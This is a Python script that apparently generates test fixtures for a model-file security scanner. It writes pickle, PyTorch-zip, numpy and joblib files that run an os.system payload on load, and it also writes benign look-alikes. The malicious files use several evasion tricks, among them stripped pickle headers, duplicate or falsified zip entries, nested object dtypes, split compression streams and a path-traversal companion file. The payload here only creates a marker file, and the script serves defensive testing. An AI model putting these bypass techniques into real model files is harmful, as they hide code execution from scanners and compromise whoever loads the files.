"""Container and sniffing bypasses (issue 9, root causes 2, 4, 5, 6), each
proven to run its payload in CPython, plus benign look-alikes made by the
real libraries.

usage: bypass.py OUT   writes OUT/evil/<name> and OUT/benign/<name>; every
evil file's payload only creates OUT/markers/<name>, and each file is loaded
in a fresh interpreter with the loader named in OUT/evil.json. The Go test
checks that each marker exists and that the scan fails each evil file.
"""

import bz2
import io
import json
import lzma
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

import joblib
import numpy as np
from safetensors.numpy import save_file

out = sys.argv[1]
E, B, M = (os.path.join(out, d) for d in ("evil", "benign", "markers"))
for d in (E, B, M):
    os.makedirs(d, exist_ok=True)


class Evil:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, ("touch '%s'" % self.marker,))


def evil(name):
    return Evil(os.path.join(M, name))


def pkl(name, protocol=4):
    return pickle.dumps(evil(name), protocol=protocol)


loaders = {}


def put(name, data, loader):
    with open(os.path.join(E, name), "wb") as f:
        f.write(data)
    loaders[name] = loader


def zbytes(members, **kw):
    """members: (name, data, compress_type)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", **kw) as z:
        for n, d, c in members:
            z.writestr(n, d, compress_type=c)
    return buf.getvalue()


def npy_bytes(header, body, version=1):
    h = header + " " * (63 - (len(header) + 10) % 64) + "\n"
    hb = h.encode("latin1" if version < 3 else "utf8")
    if version == 1:
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hb)) + hb + body
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<I", len(hb)) + hb + body


# Root cause 2: a pickle with no PROTO header whose first opcode is FRAME
# (protocol 4 minus its first two bytes), under a name that says nothing.
put("noproto_frame.bin", pkl("noproto_frame.bin")[2:], "pickle")
put("noproto_member.pt", zbytes([("archive/data.pkl", pkl("noproto_member.pt")[2:], zipfile.ZIP_STORED),
                                 ("archive/version", b"3\n", zipfile.ZIP_STORED)]), "torchzip")
put("noproto_zlib.joblib", zlib.compress(pkl("noproto_zlib.joblib")[2:]), "joblib")
# A tar whose first header's name field is a protocol-0 pickle.
p0 = b"cos\nsystem\n(S'touch " + os.path.join(M, "tar_name_pickle.tar").encode() + b"'\ntR."
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w", format=tarfile.GNU_FORMAT) as t:
    info = tarfile.TarInfo(p0.decode())
    info.size = 3
    t.addfile(info, io.BytesIO(b"abc"))
put("tar_name_pickle.tar", tb.getvalue(), "pickle")

# Root cause 4: zip read as zipfile reads it.
put("dup_last.pt", zbytes([("archive/data.pkl", pickle.dumps({"w": 1}), zipfile.ZIP_STORED),
                           ("archive/data.pkl", pkl("dup_last.pt"), zipfile.ZIP_DEFLATED)]), "torchzip")
z = zbytes([("a.txt", b"hello", zipfile.ZIP_STORED), ("b.txt", b"world", zipfile.ZIP_STORED),
            ("archive/data.pkl", pkl("eocd_count.pt"), zipfile.ZIP_DEFLATED)])
put("eocd_count.pt", z[:-22] + z[-22:-14] + struct.pack("<HH", 1, 1) + z[-10:], "torchzip")
put("prepended.pt", b"\x7fELF" + b"\0" * 4000 + zbytes([("archive/data.pkl", pkl("prepended.pt"), zipfile.ZIP_DEFLATED)]),
    "torchzip")
put("bzip2_member.pt", zbytes([("archive/data.pkl", pkl("bzip2_member.pt"), zipfile.ZIP_BZIP2)]), "torchzip")
put("lzma_member.pt", zbytes([("archive/data.pkl", pkl("lzma_member.pt"), zipfile.ZIP_LZMA)]), "torchzip")
many = [("archive/data/%d" % i, b"", zipfile.ZIP_STORED) for i in range(20001)]
put("many_members.pt", zbytes(many + [("archive/data.pkl", pkl("many_members.pt"), zipfile.ZIP_STORED)]), "torchzip")

# Root cause 5: numpy headers as numpy parses them.
put("descr_object.npy", npy_bytes("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }", pkl("descr_object.npy")),
    "numpy")
put("nested_O.npy", npy_bytes("{\"descr\": [('a', '<i4'), ('b', [('c', \"O\")])], 'fortran_order': False, 'shape': (), }",
                              pkl("nested_O.npy")), "numpy")
put("escaped_O.npy", npy_bytes("{'descr': '\\x4f', 'fortran_order': False, 'shape': (1,), }", pkl("escaped_O.npy")), "numpy")
put("v3_object.npy", npy_bytes("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", pkl("v3_object.npy"), 3), "numpy")

# Root cause 6: joblib formats.
joblib.dump(evil("lz4.joblib"), os.path.join(E, "lz4.joblib"), compress="lz4")
loaders["lz4.joblib"] = "joblib"
raw = pickle.dumps(evil("lzma_dict.joblib"), protocol=4)
put("lzma_dict.joblib", lzma.compress(raw, format=lzma.FORMAT_ALONE,
                                      filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 0x12300}]), "joblib")
# Concatenated streams: Python's decompressors go on to the next stream,
# so a pickle split across two is one pickle to joblib.load.
for fmt_name, comp in [("lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)), ("bz2", bz2.compress),
                       ("xz", lzma.compress)]:
    name = "%s_concat.joblib" % fmt_name
    raw = pickle.dumps(evil(name), protocol=0)
    put(name, comp(raw[:1]) + comp(raw[1:]), "joblib")
raw = pickle.dumps(evil("xz_bcj.joblib"), protocol=4)
put("xz_bcj.joblib", lzma.compress(raw, format=lzma.FORMAT_XZ,
                                   filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}]), "joblib")
raw = pickle.dumps(evil("zf.joblib"), protocol=2)
put("zf.joblib", b"ZF" + ("%#x" % len(raw)).ljust(19).encode() + zlib.compress(raw), "joblib")
npyo = io.BytesIO()
np.save(npyo, np.array([evil("bzip2.npz")], dtype=object), allow_pickle=True)
put("bzip2.npz", zbytes([("x.npy", npyo.getvalue(), zipfile.ZIP_BZIP2)]), "npz")

# An old joblib NDArrayWrapper names its companion array file; joblib.load
# joins it to the pickle's directory, so ../ reaches outside the model, and
# reads it with numpy.load(allow_pickle=True).
from joblib.numpy_pickle_compat import NDArrayWrapper  # noqa: E402

comp = os.path.join(out, "companion")
os.makedirs(comp, exist_ok=True)
np.save(os.path.join(comp, "c.npy"), np.array([evil("ndarraywrapper.pkl")], dtype=object), allow_pickle=True)
put("ndarraywrapper.pkl", pickle.dumps({"a": NDArrayWrapper("../companion/c.npy", np.ndarray)}, protocol=2), "joblib")

with open(os.path.join(out, "evil.json"), "w") as f:
    json.dump(loaders, f)

LOAD = {
    "pickle": "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",
    "joblib": "import joblib,sys; joblib.load(sys.argv[1])",
    "numpy": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)",
    "npz": "import numpy,sys; z=numpy.load(sys.argv[1], allow_pickle=True); [z[k] for k in z.files]",
    # torch.load's zip path: the member archive/data.pkl opened by name.
    "torchzip": "import pickle,sys,zipfile; pickle.load(zipfile.ZipFile(sys.argv[1]).open('archive/data.pkl'))",
}
for name, how in loaders.items():
    subprocess.run([sys.executable, "-c", LOAD[how], os.path.join(E, name)], capture_output=True, timeout=120)

# Benign look-alikes from the real libraries.
obj = {"w": np.arange(12.0).reshape(3, 4), "names": ["a", "b"], "n": 3}
for comp in ["zlib", "gzip", "bz2", "lzma", "xz", "lz4"]:
    for level in (1, 3, 9):
        joblib.dump(obj, os.path.join(B, "m.%s%d.joblib" % (comp, level)), compress=(comp, level))
joblib.dump(obj, os.path.join(B, "m.joblib"))
joblib.dump(obj, os.path.join(B, "m.true.joblib"), compress=True)
np.save(os.path.join(B, "a.npy"), np.arange(10.0))
np.save(os.path.join(B, "s.npy"), np.zeros(3, dtype=[("a", "<i4"), ("b", "S3"), ("c", "<f8", (2,))]))
np.savez(os.path.join(B, "a.npz"), a=np.arange(3), b=np.ones((2, 2)))
np.savez_compressed(os.path.join(B, "c.npz"), a=np.arange(300), b=np.ones((20, 20)))
save_file({"w": np.zeros((2, 3), dtype=np.float32), "b": np.ones(4, dtype=np.int64)}, os.path.join(B, "w.safetensors"))
with zipfile.ZipFile(os.path.join(B, "bz.zip"), "w", compression=zipfile.ZIP_BZIP2) as z:
    z.writestr("notes.txt", "plain text\n" * 50)
with zipfile.ZipFile(os.path.join(B, "lz.zip"), "w", compression=zipfile.ZIP_LZMA) as z:
    z.writestr("notes.txt", "plain text\n" * 50)
with tarfile.open(os.path.join(B, "m.tar.gz"), "w:gz") as t:
    t.add(os.path.join(B, "a.npy"), "a.npy")
    t.add(os.path.join(B, "m.lz43.joblib"), "m.lz4.joblib")
